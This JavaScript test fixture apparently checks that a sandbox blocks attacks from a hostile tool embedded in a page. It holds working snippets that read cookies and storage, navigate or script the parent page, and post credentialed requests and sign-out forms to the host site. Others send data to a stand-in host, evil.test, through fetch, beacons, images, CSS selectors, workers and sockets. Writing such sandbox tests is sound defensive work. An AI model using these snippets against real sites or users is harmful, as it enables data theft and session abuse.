// SPDX-License-Identifier: EUPL-1.2
//
// What a hostile tool may try from inside its page. The test names one in <html data-attack>, then clicks on the page as a
// person would: so every attack has the person's click to its credit, which browsers ask for before they allow much.
//
// Each has a name, what shows that it worked, and how it is done:
//   evil    a request, a socket or a look-up arrives at NAME.evil.test
//   host    the site around it is asked for something with ?attack=NAME
//   value   the page has learned or done something that it says itself, in <html data-got-NAME>
//   around  the page around the tool is not as it was
//   top     the page around the tool is gone
//   window  another window or tab
//   dialog  a box in front of everything
//   focus   what the person types into the page around it goes elsewhere
//
// `tab`: the person opens a tab herself, and may; `limit` says why a browser lets it happen, whatever a site says.
// `leaves`: the frame may go elsewhere, so the attack gets a fresh page. `early`: done before the click, which falls on what
// it has made. `click: false`: without one.
(function () {
  "use strict";
  const root = document.documentElement;
  const site = new URL(location.href).origin;
  const evil = (name, rest = "") => `http://${name}.evil.test/${rest}`;
  const secure = (name) => evil(name).replace("http:", "https:");
  const host = (name, path = "/api/v1/me") => `${site}${path}?attack=${name}`;
  const got = (name, value) => { if (value) root.setAttribute("data-got-" + name, String(value).slice(0, 200)); };
  const saying = (name) => `document.documentElement.setAttribute('data-got-${name}', 'ran')`;
  const make = (tag, more = {}, parent = document.body) => {
    const element = Object.assign(document.createElement(tag), more);
    parent.append(element);
    return element;
  };
  const raw = (html) => document.body.insertAdjacentHTML("beforeend", html);
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  const post = { method: "POST", mode: "no-cors", credentials: "include", body: "{}" };
  // A link that the person's own click opens.
  const under = (more) => {
    const link = make("a", more);
    link.setAttribute("style", "");
    Object.assign(link.style, { position: "fixed", inset: "0", zIndex: "9", display: "block" });
    link.textContent = "Go on";
  };
  const form = (more, fields = { secret: "1" }) => {
    const one = make("form", more);
    for (const [name, value] of Object.entries(fields)) make("input", { name, value, type: "hidden" }, one);
    one.requestSubmit();
  };

  const all = {};
  const attack = (name, shows, run, more = {}) => { all[name] = { shows, run: () => run(name), ...more }; };
  const leaves = { leaves: true };

  // ---- who is signed in, and what the browser keeps for the site
  attack("cookie-read", "value", (name) => got(name, document.cookie));
  attack("cookie-write", "value", (name) => { document.cookie = "evil=1; path=/"; if (/evil/.test(document.cookie)) got(name, "written"); });
  attack("cookie-store", "value", async (name) => got(name, (await cookieStore.getAll()).length && "read"));
  attack("storage-local", "value", (name) => { localStorage.setItem("evil", "1"); got(name, localStorage.getItem("evil")); });
  attack("storage-session", "value", (name) => { sessionStorage.setItem("evil", "1"); got(name, sessionStorage.getItem("evil")); });
  attack("storage-database", "value", (name) => new Promise((resolve, reject) => {
    const ask = indexedDB.open("evil");
    ask.onsuccess = () => { got(name, "opened"); resolve(); };
    ask.onerror = () => reject(ask.error);
  }));
  attack("storage-caches", "value", async (name) => got(name, await caches.open("evil") && "opened"));
  attack("storage-files", "value", async (name) => got(name, await navigator.storage.getDirectory() && "opened"));
  attack("locks", "value", (name) => navigator.locks.request("evil", () => got(name, "held")));
  attack("broadcast", "around", () => new BroadcastChannel("site").postMessage("from the tool"));

  // ---- the page around
  attack("parent-read", "value", (name) => got(name, parent.document.title));
  attack("parent-write", "around", () => { parent.document.body.append("by the tool"); });
  attack("top-read", "value", (name) => got(name, top.location.href));
  attack("frame-element", "value", (name) => got(name, frameElement && frameElement.outerHTML));
  attack("document-domain", "value", (name) => { document.domain = document.domain; got(name, parent.document.title); });
  attack("parent-script", "around", () => parent.eval("document.body.append('by the tool')"));
  attack("top-location", "top", (name) => { top.location = evil(name); }, leaves);
  attack("top-replace", "top", (name) => { top.location.replace(evil(name)); }, leaves);
  attack("top-script", "around", () => { parent.location = "javascript:document.body.append('by the tool')"; }, leaves);
  attack("top-link", "top", (name) => under({ href: evil(name), target: "_top" }), { ...leaves, early: true });
  attack("parent-link", "top", (name) => under({ href: evil(name), target: "_parent" }), { ...leaves, early: true });
  attack("top-form", "top", (name) => form({ action: evil(name), target: "_top" }), leaves);
  attack("top-hash", "around", () => { top.location.hash = "#evil"; }, leaves);
  attack("history-back", "top", () => history.back(), leaves);
  attack("history-go", "top", () => history.go(-1), leaves);
  attack("history-push", "host", (name) => { history.pushState(1, "", host(name, "/settings")); location.reload(); }, leaves);
  attack("navigation-api", "evil", (name) => { navigation.navigate(evil(name)); }, leaves);

  // ---- the site's own addresses, with whatever credentials the browser adds
  attack("host-fetch", "host", (name) => fetch(host(name), { credentials: "include", mode: "no-cors" }));
  attack("host-fetch-post", "host", (name) => fetch(host(name, "/api/v1/processes"), post));
  attack("host-xhr", "host", (name) => new Promise((done) => {
    const ask = new XMLHttpRequest();
    ask.withCredentials = true;
    ask.open("GET", host(name));
    ask.onloadend = done;
    ask.send();
  }));
  attack("host-beacon", "host", (name) => navigator.sendBeacon(host(name), "x"));
  attack("host-page", "host", (name) => fetch(host(name, "/settings"), { credentials: "include", mode: "no-cors" }));
  attack("host-other-view", "host", (name) => fetch(host(name, "/view/AAAA/"), { mode: "no-cors" }));
  attack("host-image", "host", (name) => make("img", { src: host(name, "/files/x.png") }));
  attack("host-script", "host", (name) => make("script", { src: host(name) }));
  attack("host-style", "host", (name) => make("link", { rel: "stylesheet", href: host(name) }));
  attack("host-import", "host", (name) => import(host(name)));
  attack("host-form", "host", (name) => form({ action: host(name, "/signout"), method: "post" }), leaves);
  attack("host-form-top", "host", (name) => form({ action: host(name, "/signout"), method: "post", target: "_top" }), leaves);
  attack("host-frame", "host", (name) => make("iframe", { src: host(name, "/settings") }));
  attack("host-redirect", "host", () => { new Image().src = new URL("away", location.href); });
  attack("host-self", "host", (name) => { location = host(name, "/settings"); }, leaves);
  attack("host-events", "host", (name) => { new EventSource(host(name, "/api/v1/events"), { withCredentials: true }); });
  attack("host-socket", "host", (name) => { new WebSocket(host(name, "/api/v1/events").replace("http", "ws")); });
  attack("host-download", "host", (name) => under({ href: host(name), download: "me.json" }), { ...leaves, early: true });
  attack("host-prefetch", "host", (name) => make("link", { rel: "prefetch", href: host(name, "/settings") }, document.head));
  attack("host-window", "host", (name) => { window.open(host(name, "/settings")); }, leaves);

  // ---- away, by what a page loads
  attack("fetch", "evil", (name) => fetch(evil(name), { mode: "no-cors" }));
  attack("fetch-keepalive", "evil", (name) => fetch(evil(name), { ...post, keepalive: true }));
  attack("fetch-later", "evil", (name) => { fetchLater(secure(name), { activateAfter: 0 }); });
  attack("xhr", "evil", (name) => { const ask = new XMLHttpRequest(); ask.open("POST", evil(name)); ask.send("secret"); });
  attack("beacon", "evil", (name) => navigator.sendBeacon(evil(name), "secret"));
  attack("image", "evil", (name) => { new Image().src = evil(name, "x.png"); });
  attack("image-set", "evil", (name) => make("img", { srcset: `${evil(name, "x.png")} 1x` }));
  attack("svg-image", "evil", (name) => raw(`<svg><image href="${evil(name, "x.png")}"/></svg>`));
  attack("svg-use", "evil", (name) => raw(`<svg><filter id="f"><feImage href="${evil(name, "x.svg")}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`));
  attack("video", "evil", (name) => make("video", { src: evil(name, "x.mp4"), preload: "auto" }));
  attack("video-poster", "evil", (name) => make("video", { poster: evil(name, "x.png") }));
  attack("audio", "evil", (name) => { new Audio(evil(name, "x.mp3")).load(); });
  attack("track", "evil", (name) => {
    const film = make("video", { crossOrigin: "anonymous" });
    make("track", { src: evil(name, "x.vtt"), default: true }, film).track.mode = "showing";
  });
  attack("object", "evil", (name) => make("object", { data: evil(name) }));
  attack("embed", "evil", (name) => make("embed", { src: evil(name), type: "text/html" }));
  attack("script", "evil", (name) => make("script", { src: evil(name, "x.js") }));
  attack("script-import", "evil", (name) => import(evil(name, "x.js")));
  attack("style-sheet", "evil", (name) => make("link", { rel: "stylesheet", href: evil(name, "x.css") }));
  attack("style-import", "evil", (name) => make("style", { textContent: `@import url(${evil(name, "x.css")});` }));
  attack("style-attribute", "evil", (name) => raw(`<p style="background:url(${evil(name, "x.png")})">x</p>`));
  attack("style-object", "evil", (name) => { make("p", { textContent: "x" }).style.background = `url(${evil(name, "x.png")})`; });
  attack("style-read", "evil", (name) => {
    // A secret in an attribute, told letter by letter by the addresses of pictures.
    make("input", { value: "secret" }).setAttribute("value", "secret");
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`input[value^="s"] { background: url(${evil(name, "s.png")}); }`);
    document.adoptedStyleSheets = [sheet];
  });
  attack("style-cursor", "evil", (name) => { root.style.cursor = `url(${evil(name, "x.png")}), auto`; });
  attack("font", "evil", (name) => new FontFace("evil", `url(${evil(name, "x.woff2")})`).load());
  attack("frame", "evil", (name) => make("iframe", { src: evil(name) }));
  attack("frame-srcdoc", "evil", (name) => make("iframe", { srcdoc: `<img src="${evil(name, "x.png")}">` }));
  attack("frame-blob", "evil", (name) => make("iframe", { src: blob(`<img src="${evil(name, "x.png")}">`, "text/html") }));
  attack("frame-data", "evil", (name) => make("iframe", { src: `data:text/html,<img src="${evil(name, "x.png")}">` }));
  attack("frame-blank", "evil", (name) => {
    const inner = make("iframe");
    inner.contentDocument.body.append(Object.assign(inner.contentDocument.createElement("img"), { src: evil(name, "x.png") }));
  });
  attack("base", "evil", (name) => {
    make("base", { href: evil(name) }, document.head);
    make("img", { src: "picture.png" });
  }, leaves);
  attack("ping", "evil", (name) => {
    const link = make("a", { href: "#here", ping: evil(name) });
    link.click();
  });

  // ---- away, ahead of need
  attack("prefetch", "evil", (name) => make("link", { rel: "prefetch", href: evil(name) }, document.head));
  attack("preload", "evil", (name) => make("link", { rel: "preload", as: "image", href: evil(name, "x.png") }, document.head));
  attack("preload-fetch", "evil", (name) => make("link", { rel: "preload", as: "fetch", crossOrigin: "", href: evil(name) }, document.head));
  attack("module-preload", "evil", (name) => make("link", { rel: "modulepreload", href: evil(name, "x.js") }, document.head));
  // Names below localhost are looked up like others, and seen in the browser's notes although all of .test is mapped.
  attack("dns-prefetch", "evil", (name) => make("link", { rel: "dns-prefetch", href: evil(name).replace(".test", ".localhost") }, document.head));
  attack("preconnect", "evil", (name) => make("link", { rel: "preconnect", href: evil(name) }, document.head));

  // ---- away, by other threads and sockets
  const errand = (name) => `fetch("${evil(name)}", { mode: "no-cors" })`;
  attack("worker-blob", "evil", (name) => { new Worker(blob(errand(name), "text/javascript")); });
  attack("worker-data", "evil", (name) => { new Worker(`data:text/javascript,${encodeURIComponent(errand(name))}`); });
  attack("worker-file", "evil", (name) => { new Worker(new URL(`web/worker.js?${name}`, location.href)); });
  attack("worker-shared", "evil", (name) => { new SharedWorker(new URL(`web/worker.js?${name}`, location.href)); });
  attack("worker-service", "value", async (name) => got(name, await navigator.serviceWorker.register(new URL("web/worker.js", location.href)) && "registered"));
  attack("worklet-audio", "evil", (name) => new OfflineAudioContext(1, 128, 44100).audioWorklet.addModule(evil(name, "x.js")));
  attack("worklet-paint", "evil", (name) => CSS.paintWorklet.addModule(evil(name, "x.js")));
  attack("socket", "evil", (name) => { new WebSocket(`ws://${name}.evil.test/`); });
  attack("event-source", "evil", (name) => { new EventSource(evil(name)); });
  attack("web-transport", "evil", (name) => new WebTransport(`https://${name}.evil.test/`).ready);
  attack("web-rtc", "evil", async (name) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${root.dataset.port}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    window.kept = peer;
  });

  // ---- away, by going there
  attack("self-location", "evil", (name) => { location = evil(name, "?secret"); }, leaves);
  attack("self-replace", "evil", (name) => { location.replace(evil(name)); }, leaves);
  attack("self-refresh", "evil", (name) => {
    const meta = make("meta", {}, document.head);
    meta.httpEquiv = "refresh";
    meta.content = `0; url=${evil(name)}`;
  }, leaves);
  attack("self-link", "evil", (name) => under({ href: evil(name) }), { ...leaves, early: true });
  attack("self-form", "evil", (name) => form({ action: evil(name) }), leaves);
  attack("self-form-post", "evil", (name) => form({ action: evil(name), method: "post" }), leaves);
  attack("self-data", "evil", (name) => { location = `data:text/html,<img src="${evil(name, "x.png")}">`; }, leaves);
  attack("self-blob", "evil", (name) => { location = blob(`<img src="${evil(name, "x.png")}">`, "text/html"); }, leaves);
  attack("self-script", "value", (name) => { location = `javascript:void(${saying(name)})`; }, leaves);
  attack("self-write", "evil", (name) => {
    document.open();
    document.write(`<img src="${evil(name, "x.png")}">`);
    document.close();
  }, leaves);
  attack("window-open", "window", (name) => { window.open(evil(name)); }, leaves);
  attack("window-blank", "window", () => { window.open("about:blank"); }, leaves);
  attack("window-link", "window", (name) => under({ href: evil(name), target: "_blank" }), { ...leaves, early: true });
  attack("window-named", "evil", (name) => { window.open(evil(name), "other"); }, leaves);
  attack("window-middle", "evil", (name) => under({ href: evil(name) }), { ...leaves, early: true, button: "middle", tab: true });
  attack("window-control", "evil", (name) => under({ href: evil(name) }), { ...leaves, early: true, key: "Control", tab: true });
  attack("download", "evil", (name) => under({ href: evil(name, "x.bin"), download: "x.bin" }), { ...leaves, early: true });
  attack("download-alt", "evil", (name) => under({ href: evil(name, "x.bin") }), { ...leaves, early: true, key: "Alt",
    limit: "a person who clicks on a link and holds Alt asks the browser to save what is behind it" });

  // ---- code from texts
  attack("eval", "value", (name) => { (0, eval)(saying(name)); });
  attack("function", "value", (name) => { new Function(saying(name))(); });
  attack("timer-text", "value", (name) => { setTimeout(saying(name), 0); });
  attack("inline-script", "value", (name) => make("script", { textContent: saying(name) }));
  attack("inline-handler", "value", (name) => raw(`<img src="x:" onerror="${saying(name)}">`));

  // ---- the person's devices and attention
  attack("full-screen", "value", async (name) => { await root.requestFullscreen(); got(name, "full"); await document.exitFullscreen(); }, leaves);
  attack("pointer-lock", "value", async (name) => { await document.body.requestPointerLock(); got(name, "locked"); document.exitPointerLock(); }, leaves);
  attack("clipboard-read", "value", async (name) => got(name, (await navigator.clipboard.readText()) || "read"));
  attack("clipboard-write", "value", async (name) => { await navigator.clipboard.writeText("evil"); got(name, "written"); });
  attack("location", "value", (name) => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => { got(name, "here"); done(); }, fail)));
  attack("camera", "value", async (name) => got(name, await navigator.mediaDevices.getUserMedia({ video: true }) && "seen"));
  attack("microphone", "value", async (name) => got(name, await navigator.mediaDevices.getUserMedia({ audio: true }) && "heard"));
  attack("notification", "value", (name) => { new Notification("evil").onshow = () => got(name, "shown"); });
  attack("dialog", "dialog", () => alert("evil"), leaves);
  attack("focus", "focus", () => { make("input").focus(); }, { ...leaves, early: true, click: false });

  // ---- started by the test
  async function start(name) {
    try {
      await all[name].run();
    } catch (error) {
      root.setAttribute("data-refused-" + name, `${error.name}: ${error.message}`.slice(0, 160));
    }
  }
  addEventListener("message", (event) => {
    // Prepared before the person's click, so that the click itself does it.
    if (event.data && event.data.early) start(event.data.early);
  });
  addEventListener("click", () => {
    const names = (root.dataset.attack || "").split(" ").filter(Boolean);
    delete root.dataset.attack; // some of them click, too
    names.forEach(start);
  });
  root.dataset.attacks = JSON.stringify(Object.entries(all).map(([name, { run, ...more }]) => ({ name, ...more })));
})();
